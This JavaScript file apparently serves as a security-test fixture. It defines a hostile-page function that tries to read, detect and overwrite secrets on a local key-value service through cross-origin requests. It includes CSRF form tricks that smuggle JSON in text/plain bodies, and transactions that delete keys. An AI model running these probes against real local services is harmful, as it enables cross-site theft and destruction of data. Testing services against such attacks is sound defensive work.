// What a hostile page does. It runs in the page and returns all that it has learned of `target`.
window.attack = async (target) => {
  const PATIENCE = 2000;
  const read = {};
  const learned = (how, what) => {
    if (what !== undefined && what !== "" && what !== null) read[how] = String(what).slice(0, 200);
  };
  const within = (promise) =>
    Promise.race([promise, new Promise((resolve) => setTimeout(resolve, PATIENCE))]);
  const quietly = async (how, action) => {
    try {
      learned(how, await within(action()));
    } catch {
      // The browser or the service has refused.
    }
  };

  const url = `${target}/kv/secret`;
  for (const mode of ["cors", "no-cors", "same-origin"]) {
    for (const credentials of ["omit", "include"]) {
      await quietly(`fetch ${mode} ${credentials}`, async () => {
        const answer = await fetch(url, { mode, credentials });
        return answer.ok ? answer.text() : "";
      });
    }
  }
  await quietly(
    "XMLHttpRequest",
    () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => resolve(request.status === 200 ? request.responseText : "");
        request.open("GET", `${target}/kv`);
        request.send();
      }),
  );
  await quietly(
    "EventSource",
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`${target}/watch`);
        const end = (what) => {
          source.close();
          resolve(what);
        };
        source.onopen = () => end("opened");
        source.onerror = () => end("");
      }),
  );
  await quietly("import", async () => Object.keys(await import(`${target}/kv/secret`)).join() || "imported");
  await quietly(
    "iframe",
    () =>
      new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.onload = () => {
          const text = (() => {
            try {
              return frame.contentDocument.body.innerText;
            } catch {
              return "";
            }
          })();
          resolve(/secret/.test(text) && !/misdirected/.test(text) ? text : "");
        };
        frame.src = url;
        document.body.append(frame);
      }),
  );

  // Elements tell by their events whether something was there.
  const event = (name, attribute, path) =>
    new Promise((resolve) => {
      const element = document.createElement(name);
      if (name === "link") element.rel = "stylesheet";
      element.onload = () =>
        resolve(`load ${element.naturalWidth ?? ""} ${element.sheet?.cssRules?.length ?? ""}`);
      element.onerror = () => resolve("error");
      element[attribute] = target + path;
      document.body.append(element);
    });
  for (const [name, attribute] of [
    ["script", "src"],
    ["img", "src"],
    ["link", "href"],
    ["audio", "src"],
  ]) {
    await quietly(`whether a key exists, by ${name}`, async () => {
      const there = await within(event(name, attribute, "/kv/secret"));
      const absent = await within(event(name, attribute, "/kv/absent"));
      return there === absent ? "" : `${there} / ${absent}`;
    });
  }
  await quietly("whether a key exists, by no-cors", async () => {
    const outcome = (path) =>
      fetch(target + path, { mode: "no-cors" }).then(
        (answer) => `${answer.type} ${answer.status}`,
        () => "error",
      );
    const there = await outcome("/kv/secret");
    const absent = await outcome("/kv/absent");
    return there === absent ? "" : `${there} / ${absent}`;
  });

  // Writes, of which the caller looks for traces.
  const json = '{"hostile":true}';
  const transaction =
    '{"operations":[{"op":"put","key":"hostile","value":1},{"op":"delete","key":"secret"}]}';
  for (const path of ["/kv/secret", "/kv/hostile", "/transactions"]) {
    const body = path === "/transactions" ? transaction : json;
    for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
      for (const mode of ["cors", "no-cors"]) {
        for (const type of [
          "application/json",
          "text/plain",
          "application/x-www-form-urlencoded",
          "application/merge-patch+json",
          undefined,
        ]) {
          const headers = type === undefined ? {} : { "Content-Type": type };
          await quietly(`${method} ${mode} ${type} ${path}`, async () => {
            const answer = await fetch(target + path, { method, mode, headers, body });
            return answer.ok ? answer.text() : "";
          });
        }
      }
      await quietly(`${method} with If-Match ${path}`, async () => {
        const headers = { "Content-Type": "application/json", "If-Match": "*" };
        const answer = await fetch(target + path, { method, headers, body });
        return answer.ok ? answer.text() : "";
      });
    }
    for (const type of ["application/json", "text/plain"]) {
      await quietly("blob", async () => {
        await fetch(target + path, { method: "POST", mode: "no-cors", body: new Blob([body], { type }) });
      });
      try {
        navigator.sendBeacon(target + path, new Blob([body], { type }));
      } catch {
        // Refused.
      }
    }
    for (const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      await quietly(
        "form",
        () =>
          new Promise((resolve) => {
            const frame = document.createElement("iframe");
            frame.name = `frame-${Math.random()}`;
            document.body.append(frame);
            const form = document.createElement("form");
            Object.assign(form, { action: target + path, method: "POST", enctype, target: frame.name });
            const field = document.createElement("input");
            // As text/plain this is JSON: {"hostile":"="}.
            field.name = path === "/transactions" ? transaction.replace(/}$/, ',"x":"') : '{"hostile":"';
            field.value = '"}';
            form.append(field);
            document.body.append(form);
            frame.onload = () => resolve("");
            form.submit();
          }),
      );
    }
  }
  return read;
};
